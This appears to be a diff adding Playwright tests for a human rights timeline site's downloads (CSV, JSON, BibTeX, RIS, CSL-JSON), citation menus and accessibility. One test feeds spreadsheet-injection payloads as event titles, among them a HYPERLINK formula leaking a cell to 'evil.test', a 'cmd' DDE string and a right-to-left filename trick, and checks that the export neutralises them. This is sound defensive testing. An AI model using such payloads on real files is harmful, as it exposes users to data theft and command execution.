@@ -1,0 +1,263 @@
+import AxeBuilder from '@axe-core/playwright';
+import { createHash } from 'node:crypto';
+import { readFile } from 'node:fs/promises';
+import { parse as parseBibtex } from '@retorquere/bibtex-parser';
+import { expect, test, type Download, type Locator, type Page } from '@playwright/test';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { readCitations } from '../src/test/citation-parsers.ts';
+import { validateDataset } from '../src/dataset/validate-dataset.ts';
+import { dayEvent, smallDataset } from './support/datasets.ts';
+import { expectNoHorizontalScroll, fulfillJson } from './support/guards.ts';
+
+const HOMES = 'insurgent-family-homes-torched';
+
+/** Clicks `control` and returns the file the browser saved, its name and its bytes. */
+async function download(
+  page: Page,
+  control: Locator,
+): Promise<{ name: string; bytes: Buffer; text: string }> {
+  const [file] = await Promise.all([page.waitForEvent('download'), control.click()]);
+  return read(file);
+}
+
+async function read(file: Download) {
+  const path = await file.path();
+  const bytes = await readFile(path);
+  return { name: file.suggestedFilename(), bytes, text: bytes.toString('utf8') };
+}
+
+/** RFC 4180, strictly: a stray quote or a short row fails the test. */
+function readCsv(text: string): Record<string, string>[] {
+  return parseCsv(text, {
+    bom: true,
+    columns: true,
+    relax_quotes: false,
+    record_delimiter: '\r\n',
+  });
+}
+
+test('a researcher downloads the events, the dataset, the source and every citation format, and each file reads back', async ({
+  page,
+  context,
+}) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  await page.goto(`/?event=${HOMES}`);
+  const panel = page.getByRole('complementary');
+  await expect(panel).toHaveAccessibleName("Homes of suspected insurgents' families torched");
+
+  // The toolbar's Download menu.
+  const toolbar = page.getByRole('region', { name: 'Timeline' });
+  const menuButton = toolbar.getByRole('button', { name: 'Download' });
+  await expect(menuButton).toHaveAttribute('aria-expanded', 'false');
+  await menuButton.click();
+  await expect(menuButton).toHaveAttribute('aria-expanded', 'true');
+
+  const csv = await download(page, toolbar.getByRole('button', { name: 'Events as CSV' }));
+  expect(csv.name).toBe('joint-letter-2014-12-16-events.csv');
+  expect([...csv.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+  expect(csv.text.endsWith('\r\n')).toBe(true);
+  const rows = readCsv(csv.text);
+  expect(rows).toHaveLength(16);
+  expect(rows.find((r) => r.id === HOMES)).toMatchObject({
+    date: 'about 5–8 December 2014',
+    edtf: '2014-12-05~/2014-12-08~',
+    precision: 'days',
+    certainty: 'approximate',
+    kind_label: 'Violence',
+    paragraphs: '6',
+  });
+  expect(rows.find((r) => r.id === HOMES)?.link).toMatch(
+    /\/\?event=insurgent-family-homes-torched$/,
+  );
+  await expect(toolbar.getByRole('status')).toHaveText('Saved joint-letter-2014-12-16-events.csv.');
+
+  const json = await download(page, toolbar.getByRole('button', { name: 'Dataset as JSON' }));
+  expect(json.name).toBe('joint-letter-2014-12-16-dataset.json');
+  const parsed: unknown = JSON.parse(json.text);
+  const validated = await validateDataset(parsed);
+  expect(validated.ok && validated.dataset.events.length).toBe(16);
+  expect((parsed as { export: unknown }).export).toMatchObject({
+    events: 16,
+    of: 16,
+    filter: null,
+  });
+
+  const source = await download(page, toolbar.getByRole('link', { name: 'Source file' }));
+  expect(source.name).toBe('joint-letter-2014-12-16.txt');
+  const sha256 = createHash('sha256').update(source.bytes).digest('hex');
+  await expect(toolbar.locator('code')).toHaveText(sha256);
+  expect(validated.ok && validated.dataset.document.source?.sha256).toBe(sha256);
+
+  // Esc closes the menu and gives focus back to its button; the open event stays open.
+  await page.keyboard.press('Escape');
+  await expect(menuButton).toHaveAttribute('aria-expanded', 'false');
+  await expect(menuButton).toBeFocused();
+  await expect(toolbar.getByRole('button', { name: 'Events as CSV' })).toBeHidden();
+  await expect(panel).toBeVisible();
+
+  // Citation formats for the open event.
+  const formats = panel.getByRole('button', { name: 'Citation formats' });
+  await formats.click();
+  await expect(formats).toHaveAttribute('aria-expanded', 'true');
+  await expect(panel.getByRole('radio', { name: 'This event (paragraph 6)' })).toBeChecked();
+
+  const bib = await download(page, panel.getByRole('button', { name: 'Download BibTeX (.bib)' }));
+  expect(bib.name).toBe(`joint-letter-2014-12-16-${HOMES}.bib`);
+  const library = parseBibtex(bib.text, { english: false });
+  expect(library.errors).toEqual([]);
+  expect(library.entries[0]?.fields).toMatchObject({
+    title:
+      'Joint Letter to President Putin: Investigate Attacks against Human Rights Defenders, Condemn Collective Punishment',
+    date: '2014-12-16',
+    note: 'Index: EUR 46/056/2014, paragraph 6',
+    eventtitle: "Homes of suspected insurgents' families torched",
+  });
+  // An approximate date is never given as a date field, only in words.
+  expect(library.entries[0]?.fields.eventdate).toBeUndefined();
+  expect(library.entries[0]?.fields.annote).toContain('about 5–8 December 2014');
+  expect(library.entries[0]?.fields.url).toMatch(/\?event=insurgent-family-homes-torched/);
+
+  const ris = await download(page, panel.getByRole('button', { name: 'Download RIS (.ris)' }));
+  expect(ris.name).toBe(`joint-letter-2014-12-16-${HOMES}.ris`);
+  const [risItem] = await readCitations(ris.text);
+  expect(risItem).toMatchObject({
+    type: 'document',
+    number: 'Index: EUR 46/056/2014',
+    issued: { 'date-parts': [[2014, 12, 16]] },
+  });
+
+  const csl = await download(
+    page,
+    panel.getByRole('button', { name: 'Download CSL-JSON (.json)' }),
+  );
+  expect(csl.name).toBe(`joint-letter-2014-12-16-${HOMES}.json`);
+  const [cslItem] = await readCitations(csl.text);
+  expect(cslItem?.['event-date']).toEqual({
+    'date-parts': [
+      [2014, 12, 5],
+      [2014, 12, 8],
+    ],
+    circa: true,
+  });
+
+  const txt = await download(
+    page,
+    panel.getByRole('button', { name: 'Download Plain text (.txt)' }),
+  );
+  expect(txt.name).toBe(`joint-letter-2014-12-16-${HOMES}.txt`);
+  expect(txt.text).toContain('Over the next few days, our organizations became aware');
+
+  await panel.getByRole('button', { name: 'Copy BibTeX' }).click();
+  await expect(panel.getByRole('status').filter({ hasText: 'BibTeX copied' })).toBeVisible();
+  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(bib.text);
+
+  // The whole letter.
+  await panel.getByRole('radio', { name: 'The whole letter' }).check();
+  const letterBib = await download(
+    page,
+    panel.getByRole('button', { name: 'Download BibTeX (.bib)' }),
+  );
+  expect(letterBib.name).toBe('joint-letter-2014-12-16.bib');
+  const letterEntry = parseBibtex(letterBib.text, { english: false }).entries[0];
+  expect(letterEntry?.key).toBe('joint-letter-2014-12-16');
+  expect(letterEntry?.fields.eventtitle).toBeUndefined();
+  const letterTxt = await download(
+    page,
+    panel.getByRole('button', { name: 'Download Plain text (.txt)' }),
+  );
+  expect(letterTxt.text).toContain(
+    'Amnesty International, Front Line Defenders, Human Rights Watch, Joint Letter',
+  );
+
+  await page.keyboard.press('Escape');
+  await expect(formats).toBeFocused();
+  await expect(formats).toHaveAttribute('aria-expanded', 'false');
+  await expect(panel).toBeVisible();
+
+  // The list's Download menu, by keyboard alone.
+  const list = page.getByRole('navigation', { name: /Events in order/ });
+  await list.getByRole('button', { name: 'Download' }).focus();
+  await page.keyboard.press('Enter');
+  await page.keyboard.press('Tab');
+  await expect(list.getByRole('button', { name: 'Events as CSV' })).toBeFocused();
+  const [byKeyboard] = await Promise.all([
+    page.waitForEvent('download'),
+    page.keyboard.press('Enter'),
+  ]);
+  expect(readCsv((await read(byKeyboard)).text)).toHaveLength(16);
+});
+
+const HOSTILE_TITLES = [
+  '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1,2)',
+  '\tTabbed',
+  '\r\nStarts with a line break',
+  'Said "stop", then, left',
+  'Line one\nline two\r\nline three',
+  '\u202Eexe.fdp and עברית text',
+];
+
+test('a CSV of events with hostile titles opens as text: formulas inert, quotes, line breaks and right-to-left text intact', async ({
+  page,
+}) => {
+  const dataset = smallDataset();
+  dataset.events = HOSTILE_TITLES.map((title, i) =>
+    dayEvent(
+      `hostile-${i + 1}`,
+      `2014-12-${String(10 + i).padStart(2, '0')}`,
+      title,
+      'p1',
+      'the office burned down',
+    ),
+  );
+  await page.route('**/hostile-titles.json', fulfillJson(dataset));
+  await page.goto('/?data=hostile-titles.json');
+  const list = page.getByRole('navigation', { name: /Events in order/ });
+  await expect(list.getByRole('listitem')).toHaveCount(HOSTILE_TITLES.length);
+
+  await list.getByRole('button', { name: 'Download' }).click();
+  const csv = await download(page, list.getByRole('button', { name: 'Events as CSV' }));
+  expect(csv.name).toBe('hostile-titles-events.csv');
+  const rows = readCsv(csv.text);
+  expect(rows.map((r) => r.title)).toEqual([
+    `'=HYPERLINK("http://evil.test/?leak="&A1,"Click")`,
+    `'+1+cmd|' /C calc'!A0`,
+    "'-2+3",
+    "'@SUM(1,2)",
+    "'\tTabbed",
+    "'\r\nStarts with a line break",
+    'Said "stop", then, left',
+    'Line one\nline two\r\nline three',
+    '\u202Eexe.fdp and עברית text',
+  ]);
+  // No cell of any row starts a formula.
+  for (const row of rows)
+    for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+});
+
+test.describe('on a 390×844 phone', () => {
+  test.use({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
+
+  test('the open menus fit the screen, and pass WCAG 2.1 A and AA checks', async ({ page }) => {
+    await page.goto(`/?event=${HOMES}`);
+    const toolbar = page.getByRole('region', { name: 'Timeline' });
+    await toolbar.getByRole('button', { name: 'Download' }).click();
+    const csvButton = toolbar.getByRole('button', { name: 'Events as CSV' });
+    await expect(csvButton).toBeInViewport({ ratio: 1 });
+    await expect(toolbar.locator('code')).toBeInViewport({ ratio: 1 });
+    await expectNoHorizontalScroll(page);
+    const tags = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'];
+    expect((await new AxeBuilder({ page }).withTags(tags).analyze()).violations).toEqual([]);
+    await page.keyboard.press('Escape');
+
+    const panel = page.getByRole('complementary');
+    await panel.getByRole('button', { name: 'Citation formats' }).click();
+    const last = panel.getByRole('button', { name: 'Download CSL-JSON (.json)' });
+    await last.scrollIntoViewIfNeeded();
+    await expect(last).toBeInViewport({ ratio: 1 });
+    await expectNoHorizontalScroll(page);
+    expect((await new AxeBuilder({ page }).withTags(tags).analyze()).violations).toEqual([]);
+  });
+});
